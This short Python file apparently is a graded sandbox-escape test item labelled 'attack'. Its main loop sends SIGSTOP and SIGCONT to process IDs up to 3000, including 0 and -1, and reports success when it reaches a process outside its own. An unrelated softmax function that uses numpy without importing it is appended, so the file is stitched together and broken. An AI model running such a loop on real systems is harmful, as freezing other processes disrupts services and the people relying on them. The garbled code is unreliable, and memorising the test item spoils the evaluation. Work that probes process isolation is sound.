# /// attack
# what = "sends signals to whatever it can name"
# state = "graded"
# marks = 20
# ///
import os
import signal

for process in [0, -1, *range(2, 3000)]:
    for number in (signal.SIGCONT, signal.SIGSTOP) if process > 1 else (signal.SIGCONT,):
        try:
            os.kill(process, number)
            if process > 1 and str(process) not in os.listdir("/proc/self/task"):
                print("ATTACK SUCCEEDED", process)
        except OSError:
            pass


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    weights = np.exp(z - z.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
